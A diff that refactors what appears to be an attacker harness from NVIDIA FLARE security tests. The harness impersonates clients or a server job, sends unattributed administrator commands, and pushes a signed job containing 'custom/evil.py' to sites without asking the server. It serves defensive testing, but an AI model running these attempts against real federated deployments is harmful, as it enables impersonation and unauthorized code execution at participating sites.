@@ -1,8 +1,8 @@
-"""A node of FLARE's network that does what it likes: run as a process, told on its standard input what to try.
+"""An attacker on FLARE's network: a process that reads from its standard input what to attempt.
 
-It uses FLARE's own cells, certificates and registration, as a hospital's administrator with a grudge would.
-    {"kit": folder, "port": n, "fqcn": claimed address, "name": claimed client, "tries": [[what, ...], ...]}
-Answers with one line of JSON: whether it was let in, and what came back on each try.
+It uses FLARE's own cells, certificates and registration, as a malicious administrator of a hospital could.
+    {"kit": folder, "port": n, "fqcn": claimed address, "name": claimed client, "attempts": [[method, argument, ...], ...]}
+It prints one line of JSON: whether the server admitted it, and the reply to each attempt.
 """
 
 from __future__ import annotations
@@ -19,15 +19,15 @@ from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from typing import Any
 
-PATIENCE = 4.0  # seconds for an answer
+TIMEOUT_SECONDS = 4.0  # for a reply
 ADMINISTRATOR = "administrator"  # instead of an address: a session as FLARE's console opens it
-SERVER_JOB = "server_job"  # how a run's process on the server is called
+SERVER_JOB = "server_job"  # the name of a run's process on the server
 
 
-def attack(kit: Path, port: int, fqcn: str, name: str, *tries: list[Any]) -> subprocess.Popen[str]:
-    """To be read with `outcome`; several may be under way at once."""
+def start_attack(kit: Path, port: int, fqcn: str, name: str, *attempts: list[Any]) -> subprocess.Popen[str]:
+    """Starts an attacker; `read_attack_result` waits for it. Several can run at once."""
     env = {**os.environ, "GRPC_VERBOSITY": "NONE", "PYTHONWARNINGS": "ignore"}
-    told = {"kit": str(kit), "port": port, "fqcn": fqcn, "name": name, "tries": tries}
+    orders = {"kit": str(kit), "port": port, "fqcn": fqcn, "name": name, "attempts": attempts}
     process = subprocess.Popen(
         [sys.executable, __file__],
         stdin=subprocess.PIPE,
@@ -37,35 +37,38 @@ def attack(kit: Path, port: int, fqcn: str, name: str, *tries: list[Any]) -> sub
         env=env,
     )
     assert process.stdin is not None
-    process.stdin.write(json.dumps(told))
+    process.stdin.write(json.dumps(orders))
     process.stdin.close()
     return process
 
 
-def outcome(process: subprocess.Popen[str]) -> dict[str, Any]:
+def read_attack_result(process: subprocess.Popen[str]) -> dict[str, Any]:
     assert process.stdout is not None
-    with process.stdout as said:
-        lines = [line for line in said if line.startswith('{"in"')]
+    with process.stdout as output:
+        lines = [line for line in output if line.startswith('{"is_admitted"')]
     process.wait(10)
     assert lines, "the attacker itself failed"
-    found: dict[str, Any] = json.loads(lines[-1])
-    return found
+    result: dict[str, Any] = json.loads(lines[-1])
+    return result
 
 
-class Node:
+class AttackerNode:
+    """A cell with a claimed address and name. Its methods are the attempts."""
+
     def __init__(self, kit: Path, port: int, fqcn: str, name: str) -> None:
         from nvflare.fuel.f3.cellnet.cell import Cell
         from nvflare.fuel.f3.drivers.driver_params import DriverParams
         from nvflare.private.fed.utils.fed_utils import fobs_initialize
 
         fobs_initialize()
-        self.name, start = name, kit / "startup"
-        self._files = [str(start / part) for part in ("rootCA.pem", "client.key", "client.crt")]
-        papers = dict(
-            zip((DriverParams.CA_CERT, DriverParams.CLIENT_KEY, DriverParams.CLIENT_CERT), self._files, strict=True)
-        )
-        credentials = {part.value: file for part, file in papers.items()} | {
-            DriverParams.CONNECTION_SECURITY.value: "mtls"
+        self.name, startup = name, kit / "startup"
+        self._files = [str(startup / file) for file in ("rootCA.pem", "client.key", "client.crt")]
+        ca, key, certificate = self._files
+        credentials = {
+            DriverParams.CA_CERT.value: ca,
+            DriverParams.CLIENT_KEY.value: key,
+            DriverParams.CLIENT_CERT.value: certificate,
+            DriverParams.CONNECTION_SECURITY.value: "mtls",
         }
         self.cell = Cell(fqcn, f"grpc://localhost:{port}", True, credentials, create_internal_listener=False)
         if fqcn.startswith("server."):  # the process of a run, which FLARE would connect to its parent
@@ -73,7 +76,7 @@ class Node:
         self.cell.start()
 
     def register(self) -> None:
-        """As FLARE's client does; raises if it is refused. Who has the server's key needs nobody's leave."""
+        """Registers as FLARE's client does; raises if it is refused. With the server's key no registration is needed."""
         from nvflare.apis.fl_context import FLContext
         from nvflare.apis.signal import Signal
         from nvflare.fuel.sec.authn import set_add_auth_headers_filters
@@ -83,97 +86,98 @@ class Node:
 
         ca, key, certificate = self._files
         if self.name == SERVER_JOB:
-            signed = IdentityAsserter(key, certificate).sign(f"{self.name}evil", return_str=True)
-            set_add_auth_headers_filters(self.cell, self.name, "evil", signed)
-            end = time.monotonic() + PATIENCE
-            while not self.cell.core_cell.is_cell_reachable("server") and time.monotonic() < end:
+            signature = IdentityAsserter(key, certificate).sign(f"{self.name}evil", return_str=True)
+            set_add_auth_headers_filters(self.cell, self.name, "evil", signature)
+            deadline = time.monotonic() + TIMEOUT_SECONDS
+            while not self.cell.core_cell.is_cell_reachable("server") and time.monotonic() < deadline:
                 time.sleep(0.05)
             return
-        desk = Authenticator(
-            self.cell,
-            "hemofed",
-            self.name,
-            ClientType.REGULAR,
-            "coordinator",
-            True,
-            ca,
-            key,
-            certificate,
-            PATIENCE,
-            1.0,
-            PATIENCE,
+        authenticator = Authenticator(
+            cell=self.cell,
+            project_name="hemofed",
+            client_name=self.name,
+            client_type=ClientType.REGULAR,
+            expected_sp_identity="coordinator",
+            secure_mode=True,
+            root_cert_file=ca,
+            private_key_file=key,
+            cert_file=certificate,
+            msg_timeout=TIMEOUT_SECONDS,
+            retry_interval=1.0,
+            timeout=TIMEOUT_SECONDS,
         )
-        token, signature, session, _ = desk.authenticate(FLContext(), Signal())
+        token, signature, session, _ = authenticator.authenticate(FLContext(), Signal())
         set_add_auth_headers_filters(self.cell, self.name, token, signature, session)
 
     def admin(self, target: str, topic: str, body: str) -> str:
-        """A command of the administrator, sent straight to a site, without a word about who gave it."""
+        """Sends an administrator's command directly to a site, without naming who gives it."""
         from nvflare.private.admin_defs import Message
         from nvflare.private.defs import CellChannel
 
         return self.send(target, CellChannel.CLIENT_MAIN, topic, Message(topic, body))
 
-    def deploy(self, target: str, touches: str) -> str:
-        """A job's folder with code, signed and given to a site without asking the server."""
+    def deploy(self, target: str, path_to_touch: str) -> str:
+        """Sends a signed job folder with code directly to a site, without asking the server."""
         from nvflare.lighter.utils import load_private_key_file, sign_folders
         from nvflare.private.admin_defs import Message
         from nvflare.private.defs import CellChannel, RequestHeader, TrainingTopic
 
-        packed, (_, key, certificate) = io.BytesIO(), self._files
-        with tempfile.TemporaryDirectory() as name, zipfile.ZipFile(packed, "w") as folder:
-            for file, text in {
-                "custom/evil.py": f"open({touches!r}, 'w')",
+        archive, (_, key, certificate) = io.BytesIO(), self._files
+        with tempfile.TemporaryDirectory() as folder, zipfile.ZipFile(archive, "w") as zip_file:
+            for name, text in {
+                "custom/evil.py": f"open({path_to_touch!r}, 'w')",
                 "config/config_fed_client.json": "{}",
             }.items():
-                Path(name, file).parent.mkdir()
-                Path(name, file).write_text(text)
-            sign_folders(name, load_private_key_file(key), certificate)
-            for found in Path(name).rglob("*"):
-                folder.write(found, found.relative_to(name))
-        said = Message(TrainingTopic.DEPLOY, packed.getvalue())
+                Path(folder, name).parent.mkdir()
+                Path(folder, name).write_text(text)
+            sign_folders(folder, load_private_key_file(key), certificate)
+            for path in Path(folder).rglob("*"):
+                zip_file.write(path, path.relative_to(folder))
+        message = Message(TrainingTopic.DEPLOY, archive.getvalue())
         meta = {
             "submitter_name": self.name,
             "submitter_org": "hemofed",
             "submitter_role": "project_admin",
             "byoc": True,
         }
-        said.set_headers({RequestHeader.JOB_ID: "evil", RequestHeader.JOB_META: meta, RequestHeader.APP_NAME: "app"})
-        return self.send(target, CellChannel.CLIENT_MAIN, TrainingTopic.DEPLOY, said)
+        message.set_headers({RequestHeader.JOB_ID: "evil", RequestHeader.JOB_META: meta, RequestHeader.APP_NAME: "app"})
+        return self.send(target, CellChannel.CLIENT_MAIN, TrainingTopic.DEPLOY, message)
 
     def send(self, target: str, channel: str, topic: str, payload: Any = None) -> str:
         from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
         from nvflare.private.defs import new_cell_message
 
-        answer = self.cell.send_request(channel, topic, target, new_cell_message({}, payload), PATIENCE)
-        said = getattr(answer.payload, "body", answer.payload)
-        return f"{answer.get_header(MessageHeaderKey.RETURN_CODE)}: {str(said)[:2000]}"
+        request = new_cell_message({}, payload)
+        reply = self.cell.send_request(channel, topic, target, request, TIMEOUT_SECONDS)
+        body = getattr(reply.payload, "body", reply.payload)
+        return f"{reply.get_header(MessageHeaderKey.RETURN_CODE)}: {str(body)[:2000]}"
 
 
-def as_administrator(kit: Path, user: str) -> list[str]:
-    """What an administrator's session is good for, if there is one."""
+def query_as_administrator(kit: Path, user: str) -> list[str]:
+    """Opens an administrator's session, and asks it for jobs and system information."""
     from nvflare.fuel.flare_api.flare_api import new_secure_session
 
-    session = new_secure_session(user, str(kit), timeout=PATIENCE)
+    session = new_secure_session(user, str(kit), timeout=TIMEOUT_SECONDS)
     return [str(session.list_jobs()), str(session.get_system_info())]
 
 
 def _main() -> None:
-    told = json.loads(sys.stdin.read())
-    kit, results = Path(told["kit"]), list[str]()
+    orders = json.loads(sys.stdin.read())
+    kit, replies = Path(orders["kit"]), list[str]()
     try:
-        if told["fqcn"] == ADMINISTRATOR:
-            results = as_administrator(kit, told["name"])
+        if orders["fqcn"] == ADMINISTRATOR:
+            replies = query_as_administrator(kit, orders["name"])
         else:
-            node = Node(kit, told["port"], told["fqcn"], told["name"])
+            node = AttackerNode(kit, orders["port"], orders["fqcn"], orders["name"])
             node.register()
-            with ThreadPoolExecutor(16) as hands:
-                results = list(hands.map(lambda one: getattr(node, one[0])(*one[1:]), told["tries"]))
-        found = {"in": True, "tries": results}
+            with ThreadPoolExecutor(16) as pool:
+                replies = list(pool.map(lambda attempt: getattr(node, attempt[0])(*attempt[1:]), orders["attempts"]))
+        result = {"is_admitted": True, "replies": replies}
     except BaseException as error:
-        found = {"in": False, "why": f"{type(error).__name__}: {error}", "tries": results}
-    sys.stdout.write(json.dumps(found) + "\n")
+        result = {"is_admitted": False, "error": f"{type(error).__name__}: {error}", "replies": replies}
+    sys.stdout.write(json.dumps(result) + "\n")
     sys.stdout.flush()
-    os._exit(0)  # threads of FLARE's would hold it
+    os._exit(0)  # FLARE's threads would keep the process alive
 
 
 if __name__ == "__main__":
